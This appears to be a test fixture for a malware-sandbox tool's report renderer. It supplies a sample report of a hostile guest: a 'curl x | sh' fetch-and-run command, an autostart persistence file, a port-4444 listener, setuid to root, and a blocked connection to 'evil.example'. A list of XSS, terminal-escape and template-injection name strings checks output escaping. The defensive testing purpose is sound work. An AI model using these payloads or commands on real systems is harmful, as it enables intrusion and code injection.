import type {
  Report,
  ResourceRecord,
  SignedReport,
  TaskResult,
  WitnessEvent,
} from "../../src/contract/index.ts";
import { NO_NETWORK, uncheckedMemory } from "../../src/contract/index.ts";

/** Names that a hostile guest may choose. */
export const HOSTILE_NAMES: readonly string[] = [
  "<script>alert(1)</script>",
  "</style><img src=x onerror=alert(1)>",
  "</title></svg></text><script>x</script>",
  `"><svg onload=alert(1)>`,
  "' onmouseover='alert(1)",
  "a\nb\r\nc",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u202egnp.exe",
  "&lt;b&gt;&#x3c;",
  "<!-- --!><![CDATA[ ]]>",
  "javascript:alert(1)",
  "\ud800 lone",
  "${7*7}{{7*7}}`",
];

const RESULT: TaskResult = {
  id: "m0123456789ab",
  profile: "base",
  template: "0123456789abcdef",
  origin: "fork",
  isolation: { kind: "emulated", accelerator: "tcg", reason: "no working KVM" },
  outcome: { kind: "exited", code: 0 },
  exitCode: 0,
  inputs: [{ name: "invoice.docx", bytes: 1234, sha256: "a".repeat(64) }],
  outputs: [{ path: "result.txt", bytes: 12 }],
  refusedOutputs: [],
  network: NO_NETWORK,
  startedAt: "2026-03-01T10:00:00.000Z",
  timings: { machine: 200, firstByte: 230, ended: 2000, collected: 2010, disposed: 2100 },
  warnings: [],
  disposal: {
    complete: true,
    steps: [{ step: "process", ok: true, ms: 4, detail: "processes 1, 2 reaped" }],
  },
};

const EVENTS: readonly WitnessEvent[] = [
  {
    kind: "exec",
    at: 210,
    pid: 10,
    program: "/bin/sh",
    argv: ["sh", "-c", "curl x | sh"],
    argvBytes: 17,
    user: 1000,
    origin: "image",
    sha256: "b".repeat(64),
  },
  { kind: "fork", at: 300, pid: 10, child: 11 },
  {
    kind: "exec",
    at: 310,
    pid: 11,
    program: "/usr/bin/curl",
    argv: ["curl", "x"],
    argvBytes: 6,
    user: 1000,
    origin: "image",
    sha256: undefined,
  },
  { kind: "exit", at: 900, pid: 11, code: 0, signal: undefined },
  { kind: "fork", at: 910, pid: 10, child: 12 },
  {
    kind: "exec",
    at: 920,
    pid: 12,
    program: "/tmp/drop",
    argv: ["/tmp/drop"],
    argvBytes: 9,
    user: 1000,
    origin: "changed",
    sha256: "c".repeat(64),
  },
  {
    kind: "create",
    at: 930,
    pid: 12,
    path: "/home/user/.config/autostart/x.desktop",
  },
  { kind: "rename", at: 940, pid: 12, path: "/tmp/a", to: "/tmp/b" },
  { kind: "listen", at: 950, pid: 12, protocol: "tcp", address: "0.0.0.0", port: 4444 },
  { kind: "credentials", at: 960, pid: 12, call: "setuid", from: 1000, to: 0 },
  { kind: "call", at: 970, pid: 12, call: "ptrace", detail: "target=10 request=attach", succeeded: false },
  { kind: "exit", at: 1900, pid: 12, code: undefined, signal: 9 },
];

/** As this version writes it. */
interface Written extends Report {
  readonly resources: ResourceRecord;
}

/** A report in which everything that a report can have is there. */
export const SAMPLE: Written = {
  format: 1,
  origin: { version: "0.1.0", engine: "QEMU 7.2.22" },
  command: ["sh", "-c", "curl x | sh"],
  result: {
    ...RESULT,
    network: {
      streams: [
        {
          at: 400,
          target: { host: "example.org", port: 443 },
          program: "/usr/bin/curl (11)",
          decision: { allowed: true, rule: 'network.allow[0] "*.org" (policy.yaml:3)', reason: "" },
          addresses: ["93.184.216.34"],
          connected: "93.184.216.34",
          tls: { serverName: "example.org", alpn: ["h2"] },
          inspected: true,
          http: [{ method: "GET", host: "example.org", path: "/x", status: 200 }],
          bytesOut: 517,
          bytesIn: 4096,
          end: "closed",
          lasted: 450,
        },
        {
          at: 980,
          target: { host: "evil.example", port: 6667 },
          program: undefined,
          decision: { allowed: false, rule: undefined, reason: "no rule allows it" },
          addresses: [],
          connected: undefined,
          tls: undefined,
          inspected: false,
          http: [],
          bytesOut: 0,
          bytesIn: 0,
          end: "refused",
          lasted: 0,
        },
      ],
      omitted: 0,
      lookups: ["example.org", "evil.example"],
      bytesOut: 517,
      bytesIn: 4096,
    },
  },
  witness: { state: "incomplete", missing: ["3 events were lost"], lost: 3, omitted: 0, events: EVENTS },
  resources: {
    samples: [0, 500, 1000, 1500].map((at) => ({
      at,
      cpuMs: at,
      privateBytes: 30_000_000 + at * 10_000,
      readBytes: at * 400,
    })),
    cpuMs: 1500,
    peakPrivateBytes: 45_000_000,
    disk: { readBytes: 700_000, reads: 40, writtenBytes: 0, writes: 0 },
    console: [{ at: 120, text: "[    1.0] hello" }],
  },
  memory: {
    ...uncheckedMemory(""),
    state: "checked",
    pages: 65_536,
    changedPages: 5_000,
    at: 2000,
    took: 60,
    kernel: [
      {
        part: "text",
        state: "changed",
        detail: "1,734 pages, 1 changed",
        changes: [{ place: "0xffffffff81000000", expected: "90", found: "cc" }],
        changesOmitted: 0,
      },
      { part: "control registers", state: "intact", detail: "3 registers", changes: [], changesOmitted: 0 },
    ],
    executables: [{ address: "0x1000", kind: "ELF 64-bit x86-64 executable", sha256: "e".repeat(64) }],
  },
  findings: [
    {
      rule: "kernel-text",
      severity: "critical",
      text: "The guest's kernel was changed",
      techniques: [
        {
          id: "T1014",
          name: "Rootkit",
          tactics: ["defense-evasion"],
          url: "https://attack.mitre.org/techniques/T1014",
        },
      ],
      voice: "outside",
      evidence: [{ voice: "outside", at: 2000, pid: undefined, text: "1 page of the kernel's text differs" }],
      evidenceOmitted: 0,
    },
    {
      rule: "persistence-autostart",
      severity: "high",
      text: "It made itself start again",
      techniques: [
        {
          id: "T1547.013",
          name: "XDG Autostart Entries",
          tactics: ["persistence", "privilege-escalation"],
          url: "https://attack.mitre.org/techniques/T1547/013",
        },
      ],
      voice: "witness",
      evidence: [{ voice: "witness", at: 930, pid: 12, text: "made /home/user/.config/autostart/x.desktop" }],
      evidenceOmitted: 2,
    },
  ],
  granted: [{ what: "input invoice.docx", granted: "read as /in/invoice.docx", used: "1.2 KiB copied in" }],
  rules: [
    {
      list: "allow",
      rule: 'network.allow[0] "*.org" (policy.yaml:3)',
      to: "*.org",
      protocol: "tls",
      tls: "required",
      inspect: true,
      inject: [{ header: "Authorization", from: "literal" }],
    },
  ],
};

export function unsigned(report: Report): SignedReport {
  return { report, receipt: { algorithm: "ed25519", sha256: "0".repeat(64), key: "", signature: "" } };
}

/** The sample with `name` wherever a guest or a file may choose one. */
export function withName(name: string): Written {
  const named = (event: WitnessEvent): WitnessEvent =>
    "path" in event
      ? { ...event, path: name }
      : event.kind === "exec"
        ? { ...event, program: name, argv: [name] }
        : event.kind === "call"
          ? { ...event, detail: name }
          : event;
  return {
    ...SAMPLE,
    command: [name],
    result: {
      ...SAMPLE.result,
      inputs: SAMPLE.result.inputs.map((input) => ({ ...input, name })),
      outputs: [{ path: name, bytes: 1 }],
      refusedOutputs: [{ path: name, why: name }],
      warnings: [name],
      network: {
        ...SAMPLE.result.network,
        lookups: [name],
        streams: SAMPLE.result.network.streams.map((stream) => ({
          ...stream,
          program: name,
          target: { host: name, port: 1 },
          decision: { ...stream.decision, reason: name },
          http: [{ method: name, host: name, path: name, status: 200 }],
        })),
      },
    },
    witness: { ...SAMPLE.witness, missing: [name], events: SAMPLE.witness.events.map(named) },
    resources: { ...SAMPLE.resources, console: [{ at: 1, text: name }] },
    findings: SAMPLE.findings.map((finding) => ({
      ...finding,
      text: name,
      rule: name,
      techniques: finding.techniques.map((each) => ({ ...each, name, url: name })),
      evidence: finding.evidence.map((each) => ({ ...each, text: name })),
    })),
  };
}
